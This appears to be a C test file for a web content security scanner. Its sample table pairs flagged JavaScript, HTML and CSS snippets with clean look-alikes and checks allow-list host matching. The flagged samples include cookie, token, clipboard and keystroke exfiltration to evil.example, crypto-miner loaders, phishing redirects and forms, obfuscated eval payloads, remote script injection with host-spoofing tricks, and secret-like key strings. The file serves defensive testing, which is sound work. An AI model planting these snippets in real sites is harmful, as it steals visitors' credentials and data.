/*
 * check_scan.c — the content security scan (platform-docs §23, SPEC §10):
 * each category in several forms, in JavaScript, HTML and CSS, each pinned
 * to its category and line; the benign forms the scan must leave alone
 * (placeholders, UUIDs, sequential strings, SRI hashes, data: URIs, commit
 * ids, publishable keys, comments, connector calls, plain eval of a
 * literal, trusted CDNs); and the allow-list's host matching.
 */
#include "build.h"

#include "check_main.h"
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "scan.h"

#define JS	SCAN_JS
#define HTML	SCAN_HTML
#define CSS	SCAN_CSS
#define CLEAN	(-1)

#define MINE	SCAN_CRYPTO_MINING
#define EXFIL	SCAN_DATA_EXFILTRATION
#define PHISH	SCAN_PHISHING_REDIRECT
#define OBF	SCAN_OBFUSCATION
#define EXT	SCAN_EXTERNAL_SCRIPT
#define CRED	SCAN_CREDENTIAL

struct sample {
	enum scan_kind	 s_kind;
	int		 s_cat;		/* CLEAN: no finding at all */
	int		 s_line;	/* line of the finding (0: any) */
	const char	*s_text;
};

static const struct sample samples[] = {
	/* --- crypto_mining ---------------------------------------------------- */
	{ JS, MINE, 1, "var m = new CoinHive.Anonymous('SITE');" },
	{ JS, MINE, 2, "x();\nvar miner = new Client.Anonymous("
	    "'0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a6978', {throttle: 0.3});"
	    "\nminer.start();" },
	{ JS, MINE, 1, "importScripts('https://cdn.jsdelivr.net/npm/x/"
	    "cryptonight.wasm.js');" },
	{ JS, MINE, 1, "const pool = 'stratum+tcp://pool.minexmr.com:4444';" },
	{ HTML, MINE, 2, "<p>hi</p>\n<script src=\"https://coinhive.com/lib/"
	    "coinhive.min.js\"></script>" },
	{ HTML, MINE, 3, "<html>\n<body>\n<script>var m = new CoinImp.Anonymous("
	    "'x'); m.start();</script>" },
	{ JS, CLEAN, 0, "// we do not use coinhive or cryptonight here\n"
	    "var x = 1;" },
	/* --- data_exfiltration ------------------------------------------------ */
	{ JS, EXFIL, 1, "fetch('https://evil.example/c?d=' + document.cookie);" },
	{ JS, EXFIL, 2, "var i = new Image();\ni.src = "
	    "'https://evil.example/p.gif?c=' + encodeURIComponent(document.cookie);" },
	{ JS, EXFIL, 1, "navigator.sendBeacon('https://evil.example/b', "
	    "JSON.stringify(localStorage));" },
	{ JS, EXFIL, 5, "var keys = '';\ndocument.addEventListener('keydown', "
	    "function (e) {\n  keys += e.key;\n});\nsetInterval(function () { "
	    "fetch('https://evil.example/k', {method: 'POST', body: keys}); }, "
	    "5000);" },
	{ JS, EXFIL, 3, "var x = new XMLHttpRequest();\nvar c = document.cookie;"
	    "\nx.open('POST', 'https://evil.example/collect?v=' + c);" },
	{ JS, EXFIL, 2, "var pw = document.querySelector('input[type=password]');"
	    "\n$.post('https://evil.example/p', {p: pw.value});" },
	{ JS, EXFIL, 2, "const t = await navigator.clipboard.readText();\n"
	    "new WebSocket(`wss://evil.example/s?${t}`);" },
	{ HTML, EXFIL, 2, "<form>\n<script>fetch('//evil.example/x', {method:"
	    "'POST', body: sessionStorage.getItem('token')});</script>" },
	{ JS, CLEAN, 0, "sdk.connectors.execute({ permalink: 'weather-api', "
	    "queryParams: { c: document.cookie } });" },
	{ JS, CLEAN, 0, "localStorage.setItem('theme', 'dark');\n"
	    "fetch('https://api.example.com/forecast').then(r => r.json());" },
	{ JS, CLEAN, 0, "document.cookie = 'seen=1';\nfetch('https://api.example."
	    "com/x', {method: 'POST', body: data});" },
	{ JS, CLEAN, 0, "el.addEventListener('keydown', e => { if (e.key === "
	    "'Escape') close(); });\nfetch('https://api.example.com/d?q=' + q);" },
	{ JS, CLEAN, 0, "window.open('https://twitter.com/intent/tweet?text=' + "
	    "encodeURIComponent(document.title));" },
	/* --- phishing_redirect ------------------------------------------------ */
	{ JS, PHISH, 1, "window.location = 'https://evil.example/login';" },
	{ JS, PHISH, 2, "if (x)\n  location.href = \"http://evil.example/\";" },
	{ JS, PHISH, 1, "top.location.replace('//evil.example/');" },
	{ JS, PHISH, 1, "document.location.assign(`https://evil.example/a`);" },
	{ HTML, PHISH, 1, "<meta http-equiv=\"refresh\" content=\"0; "
	    "url=https://evil.example/\">" },
	{ HTML, PHISH, 2, "<div>\n<form action=\"https://evil.example/login\">"
	    "\n<input name=u><input type=\"password\" name=p></form>" },
	{ HTML, PHISH, 1, "<a onclick=\"window.location='https://evil.example'\">"
	    "x</a>" },
	{ JS, CLEAN, 0, "location.href = '/widgets/next';\nlocation.hash = "
	    "'#top';\nmap.location = 'https://x.example/';" },
	{ JS, CLEAN, 0, "if (window.location == 'https://a.example/') go();" },
	/* --- obfuscation ------------------------------------------------------ */
	{ JS, OBF, 1, "eval(atob('YWxlcnQoMSk='));" },
	{ JS, OBF, 1, "eval(String.fromCharCode(97, 108, 101, 114, 116, 40, 41));" },
	{ JS, OBF, 1, "new Function(unescape('%61%6c%65%72%74'))();" },
	{ JS, OBF, 1, "eval('al' + 'ert(1)');" },
	{ JS, OBF, 1, "eval(\"\\x61\\x6c\\x65\\x72\\x74\\x28\\x31\\x29\");" },
	{ JS, OBF, 1, "eval(s.split('').reverse().join(''));" },
	{ JS, OBF, 1, "setTimeout('alert(1)', 100);" },
	{ JS, OBF, 1, "setInterval(\"tick()\", 1000);" },
	{ JS, OBF, 1, "eval(function(p,a,c,k,e,d){e=function(c){return c};"
	    "return p}('0',1,1,'a'.split('|'),0,{}))" },
	{ JS, OBF, 1, "window['ev' + 'al']('1');" },
	{ JS, OBF, 1, "var f = this[\"\\x65\\x76\\x61\\x6c\"];" },
	{ JS, OBF, 1, "document.write(unescape('%3Cscript%3Ealert(1)%3C/script%3E'));" },
	{ JS, OBF, 1, "var _0x1a2b=['a'];(function(_0x3c4d,_0x5e6f){_0x1a2b;"
	    "_0x3c4d;_0x5e6f;_0x1a2b;_0x3c4d;_0x5e6f;_0x1a2b;_0x3c4d;_0x5e6f;"
	    "_0x1a2b;})();" },
	{ JS, OBF, 1, "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!!"
	    "[]+[])[+[]]][([][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+"
	    "(!![]+[])[+[]]]+[])[!+[]+!+[]+!+[]]+(!![]+[][(![]+[])[+[]]+(![]+[])"
	    "[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]])[+!+[]+[+[]]]+([][[]]+"
	    "[])[+!+[]]]()" },
	{ HTML, OBF, 1, "<a href=\"&#106;avascript:eval(atob('YQ=='))\">x</a>" },
	{ HTML, OBF, 2, "<p>\n<img src=x onerror=\"eval(atob('YWxlcnQoMSk='))\">" },
	{ CSS, OBF, 1, "div { width: expression(alert(1)); }" },
	{ CSS, OBF, 2, "a {\n  behavior: url(evil.htc);\n}" },
	{ CSS, OBF, 1, "b { -moz-binding: url('https://evil.example/x.xml#x'); }" },
	{ CSS, OBF, 1, "c { background: url(\"javascript:alert(1)\"); }" },
	{ CSS, OBF, 1, "d { width: e\\78 pression(alert(1)); }" },
	{ HTML, OBF, 1, "<div style=\"width: expression(alert(1))\"></div>" },
	{ HTML, OBF, 2, "<style>\n.x { behavior: url(x.htc) }</style>" },
	{ JS, CLEAN, 0, "eval('1 + 1'); new Function('return this')();" },
	{ JS, CLEAN, 0, "// eval(atob('YWxlcnQoMSk='))\n/* setTimeout('x()') */\n"
	    "var a = 1;" },
	{ JS, CLEAN, 0, "var render = new Function('d', 'return {' + columns."
	    "map(function (n, i) { return JSON.stringify(n) + ': d[' + i + ']'; "
	    "}).join(',') + '}');" },
	{ JS, CLEAN, 0, "setTimeout(function () { tick(); }, 10);\n"
	    "var s = 'setTimeout(\"x\")';" },
	{ CSS, CLEAN, 0, "html { scroll-behavior: smooth; }\n.lvml { behavior: "
	    "url(#default#VML); }\n/* expression(alert(1)) */" },
	{ HTML, CLEAN, 0, "<a href=\"javascript:void(0)\">x</a>" },
	/* --- external_script_loading ------------------------------------------ */
	{ HTML, EXT, 2, "<head>\n<script src=\"https://evil.example/x.js\">"
	    "</script>" },
	{ HTML, EXT, 1, "<script src=//evil.example/x.js></script>" },
	{ HTML, EXT, 1, "<script src=\"https://cdn.jsdelivr.net.evil.example/"
	    "x.js\"></script>" },
	{ HTML, EXT, 1, "<script src=\"https://cdn.jsdelivr.net@evil.example/"
	    "x.js\"></script>" },
	{ HTML, EXT, 1, "<script src=\"https://evil.example\\@unpkg.com/x.js\">"
	    "</script>" },
	{ HTML, EXT, 1, "<script src=\"https://sub.unpkg.com/x.js\"></script>" },
	{ JS, EXT, 2, "var s = document.createElement('script');\n"
	    "s.src = 'https://evil.example/x.js';\ndocument.head.appendChild(s);" },
	{ JS, EXT, 1, "const s = document.createElement(\"SCRIPT\"); "
	    "s.setAttribute('src', '//evil.example/x.js');" },
	{ JS, EXT, 1, "import('https://evil.example/m.mjs').then(m => m.run());" },
	{ JS, EXT, 1, "import { a } from 'https://evil.example/a.mjs';" },
	{ JS, EXT, 1, "importScripts('https://evil.example/w.js');" },
	{ JS, EXT, 1, "$.getScript('https://evil.example/g.js');" },
	{ JS, EXT, 1, "document.write('<script src=\"https://evil.example/"
	    "d.js\"></scr' + 'ipt>');" },
	{ CSS, EXT, 1, "@import url(\"https://evil.example/x.css\");" },
	{ CSS, EXT, 2, "a{}\n@import 'https://evil.example/y.css';" },
	{ HTML, CLEAN, 0, "<script src=\"https://cdn.jsdelivr.net/npm/chart.js@4"
	    "\"></script>\n<script src=\"https://UNPKG.com/vue@3\"></script>\n"
	    "<script src=\"https://esm.sh/preact\"></script>\n<script src=\""
	    "https://cdnjs.cloudflare.com/ajax/libs/d3/7.8.5/d3.min.js\"></script>"
	    "\n<script src=\"./app.js\"></script><script src=\"/w/app.js\">"
	    "</script>" },
	{ JS, CLEAN, 0, "var s = document.createElement('script'); s.src = "
	    "'https://unpkg.com/x.js'; import('./local.mjs');" },
	{ CSS, CLEAN, 0, "@import url('theme.css');\n@import "
	    "'https://cdn.jsdelivr.net/npm/x/y.css';" },
	/* --- credential_exposure ---------------------------------------------- */
	{ JS, CRED, 1, "var k = 'AKIAQWERTYUIOPASDFGH';" },
	{ JS, CRED, 2, "x = 1;\n// AKIAZXCVBNMASDFGHJKL in a comment still counts" },
	{ JS, CRED, 1, "const pem = '-----BEGIN RSA PRIVATE KEY-----\\nMIIE';" },
	{ JS, CRED, 1, "var t = 'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9."
	    "eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U';" },
	{ JS, CRED, 1, "const config = { password: 'hunter2!x' };" },
	{ JS, CRED, 1, "db.adminPassword = \"s3cr3tP4ss\";" },
	{ JS, CRED, 1, "const apiSecret = 'q8Zr2LkP0vX9mN4tB7wE1yU6';" },
	{ JS, CRED, 1, "headers['X-Api-Key'] = 'x'; var api_key = "
	    "\"9f8e7d6c5b4a39281706f5e4d3c2b1a0\";" },
	{ JS, CRED, 1, "var blob = 'Zx9Qw3Er5Ty7Ui9Op1As3Df5Gh7Jk9Lz2Xc4Vb6';" },
	{ JS, CRED, 1, "const stripe = 'sk_live_4eC39HqLyjWDarjtT1zdp7dc';" },
	{ JS, CRED, 1, "const gh = 'ghp_R8x2kLq9ZtW4mN7vB1cY5uE3oP6aS0dF2gH4';" },
	{ JS, CRED, 2, "/*\n token = \"q8Zr2LkP0vX9mN4tB7wE1yU6\" */" },
	{ HTML, CRED, 2, "<div>\n<div data-api-key=\"q8Zr2LkP0vX9mN4tB7wE1yU6\">"
	    "</div>" },
	{ HTML, CRED, 2, "<!--\n password = 'correcthorse9' -->" },
	{ JS, CLEAN, 0, "const key = '${API_KEY}'; const k2 = '{{ api_key }}';\n"
	    "const token = 'YOUR_API_TOKEN'; const secret = '<your-secret>';" },
	{ JS, CLEAN, 0, "const id = '123e4567-e89b-12d3-a456-426614174000';\n"
	    "const token = '{123E4567-E89B-12D3-A456-426614174000}';" },
	{ JS, CLEAN, 0, "const b64 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnop"
	    "qrstuvwxyz0123456789+/';\nconst digits = '0123456789abcdefghij';" },
	{ JS, CLEAN, 0, "const integrity = 'sha384-oqVuAfXRKap7fdgcCY5uykM6+"
	    "R9GqQ8K/uxy9rx7HNQlGYl1kPzQho1wx4JwY8wC';" },
	{ JS, CLEAN, 0, "img.src = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEU"
	    "gAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5E"
	    "rkJggg==';" },
	{ JS, CLEAN, 0, "const commit = '9fceb02d0ae598e95dc970b74767f19372d61af8';"
	    "\nconst sha = 'e83c5163316f89bfbde7d9ab23ca2e25604af290a1b2c3d4e5f60"
	    "7182930a1b2';" },
	{ JS, CLEAN, 0, "Stripe('pk_live_51HqLyjWDarjtT1zdp7dcXjBBZLqMbNTi2kZ3');"
	    "\nconst publishableKey = 'x9Zr2LkP0vX9mN4tB7wE1yU6';" },
	{ JS, CLEAN, 0, "const labels = { password: 'Password', "
	    "passwordPlaceholder: 'Enter your password', confirmPassword: "
	    "'Confirm password', passwordMinLength: '8' };\n"
	    "input.type = 'password';" },
	{ HTML, CLEAN, 0, "<input type=\"password\" name=\"password\" "
	    "placeholder=\"Password\" autocomplete=\"current-password\">" },
	{ JS, CLEAN, 0, "const tokenType = 'punctuationTokenEnd';\n"
	    "var AKIA = 'AKIAIOSFODNN7EXAMPLE';" },
	{ CSS, CLEAN, 0, ".x { background: url(data:image/png;base64,"
	    "Zx9Qw3Er5Ty7Ui9Op1As3Df5Gh7Jk9Lz2Xc4Vb6); }" },
	/* --- lexing corner cases ---------------------------------------------- */
	{ JS, CLEAN, 0, "var r = /'/g, d = a / b / c, t = `x${ '\\'' }y`;\n"
	    "var u = 'https://evil.example/'; // location = u" },
	{ JS, OBF, 2, "var re = /\"[^\"]*\"/;\neval(atob(x));" },
	{ JS, OBF, 2, "var t = `a ${ `b ${ 'c' } d` } e`;\neval(atob(x));" },
	{ JS, PHISH, 2, "if (a) { /* } */ }\nlocation = 'https://evil.example/';" },
};

START_TEST(test_samples)
{
	const struct sample	*sm = &samples[_i];
	struct scan_result	 res;
	size_t			 k;
	int			 found = 0;

	memset(&res, 0, sizeof(res));
	ck_assert_int_eq(scan_buffer(NULL, sm->s_kind, sm->s_text,
	    strlen(sm->s_text), &res), 0);
	if (sm->s_cat == CLEAN) {
		for (k = 0; k < res.sr_n; k++)
			fprintf(stderr, "sample %d: unexpected %d: %s: %s\n", _i,
			    res.sr_items[k].sf_line, scan_category_name(
			    res.sr_items[k].sf_category), res.sr_items[k].sf_msg);
		ck_assert_msg(res.sr_n == 0, "sample %d should be clean", _i);
		ck_assert_uint_eq(res.sr_categories, 0);
		goto out;
	}
	for (k = 0; k < res.sr_n; k++)
		if ((int)res.sr_items[k].sf_category == sm->s_cat &&
		    (sm->s_line == 0 || res.sr_items[k].sf_line == sm->s_line))
			found = 1;
	if (!found) {
		fprintf(stderr, "sample %d (%s): want %s at %d, got %zu:\n", _i, sm->s_text,
		    scan_category_name(sm->s_cat), sm->s_line, res.sr_n);
		for (k = 0; k < res.sr_n; k++)
			fprintf(stderr, "  %d: %s: %s\n", res.sr_items[k].sf_line,
			    scan_category_name(res.sr_items[k].sf_category),
			    res.sr_items[k].sf_msg);
	}
	ck_assert_msg(found, "sample %d: finding missing", _i);
	ck_assert(res.sr_categories & (1U << sm->s_cat));
 out:
	scan_result_clear(&res);
}
END_TEST

/* Every category has at least three detected forms in the table. */
START_TEST(test_coverage)
{
	int	 n[SCAN_NCATEGORIES], clean = 0;
	size_t	 i;

	memset(n, 0, sizeof(n));
	for (i = 0; i < sizeof(samples) / sizeof(samples[0]); i++) {
		if (samples[i].s_cat == CLEAN)
			clean++;
		else
			n[samples[i].s_cat]++;
	}
	for (i = 0; i < SCAN_NCATEGORIES; i++)
		ck_assert_int_ge(n[i], 3);
	ck_assert_int_ge(clean, 20);
}
END_TEST

/* The allow-list: exact hosts after URL parsing, configurable. */
START_TEST(test_policy)
{
	static const char *const mine[] = { "static.example.com" };
	struct scan_policy	 pol = { mine, 1 };
	struct scan_result	 res;
	const char		*h = "<script src=\"https://static.example.com/a.js\">"
	    "</script><script src=\"https://unpkg.com/b.js\"></script>";

	ck_assert_int_eq(scan_host_trusted(NULL, "cdn.jsdelivr.net", 16), 1);
	ck_assert_int_eq(scan_host_trusted(NULL, "CDN.JSDELIVR.NET.", 17), 1);
	ck_assert_int_eq(scan_host_trusted(NULL, "jsdelivr.net", 12), 0);
	ck_assert_int_eq(scan_host_trusted(NULL, "esm.sh.evil", 11), 0);
	memset(&res, 0, sizeof(res));
	ck_assert_int_eq(scan_buffer(&pol, SCAN_HTML, h, strlen(h), &res), 0);
	/* static.example.com trusted now; unpkg.com no longer. */
	ck_assert_uint_eq(res.sr_n, 1);
	ck_assert_int_eq(res.sr_items[0].sf_category, SCAN_EXTERNAL_SCRIPT);
	ck_assert(strstr(res.sr_items[0].sf_msg, "unpkg.com") != NULL);
	scan_result_clear(&res);
}
END_TEST

START_TEST(test_kinds)
{
	ck_assert_int_eq(scan_kind_for("a/index.html"), SCAN_HTML);
	ck_assert_int_eq(scan_kind_for("x.HTM"), SCAN_HTML);
	ck_assert_int_eq(scan_kind_for("x.js"), SCAN_JS);
	ck_assert_int_eq(scan_kind_for("x.mjs"), SCAN_JS);
	ck_assert_int_eq(scan_kind_for("x.jsx"), SCAN_JS);
	ck_assert_int_eq(scan_kind_for("x.css"), SCAN_CSS);
	ck_assert_int_eq(scan_kind_for("x.svg"), SCAN_NONE);
	ck_assert_int_eq(scan_kind_for("x.json"), SCAN_NONE);
	ck_assert_int_eq(scan_kind_for("a.js/x"), SCAN_NONE);
	ck_assert_int_eq(scan_kind_for("Makefile"), SCAN_NONE);
	ck_assert_str_eq(scan_category_name(SCAN_EXTERNAL_SCRIPT),
	    "external_script_loading");
	ck_assert_str_eq(scan_category_name(SCAN_CREDENTIAL),
	    "credential_exposure");
}
END_TEST

/* Findings stop at SCAN_MAXFINDINGS; the scan still says what it saw. */
START_TEST(test_many)
{
	struct scan_result	 res;
	char			*buf;
	size_t			 i, n = 5000;
	const char		*line = "eval(atob(x));\n";

	ck_assert_ptr_nonnull(buf = malloc(n * strlen(line) + 1));
	for (i = 0; i < n; i++)
		memcpy(buf + i * strlen(line), line, strlen(line));
	buf[n * strlen(line)] = '\0';
	memset(&res, 0, sizeof(res));
	ck_assert_int_eq(scan_buffer(NULL, SCAN_JS, buf, strlen(buf), &res), 0);
	ck_assert_uint_eq(res.sr_n, SCAN_MAXFINDINGS);
	ck_assert_int_eq(res.sr_items[0].sf_line, 1);
	ck_assert_int_eq(res.sr_items[SCAN_MAXFINDINGS - 1].sf_line,
	    SCAN_MAXFINDINGS);
	scan_result_clear(&res);
	free(buf);
}
END_TEST

Suite *
check_suite(void)
{
	Suite	*s = suite_create("scan");
	TCase	*tc = tcase_create("scan");

	tcase_add_loop_test(tc, test_samples, 0,
	    sizeof(samples) / sizeof(samples[0]));
	tcase_add_test(tc, test_coverage);
	tcase_add_test(tc, test_policy);
	tcase_add_test(tc, test_kinds);
	tcase_add_test(tc, test_many);
	suite_add_tcase(s, tc);
	return s;
}
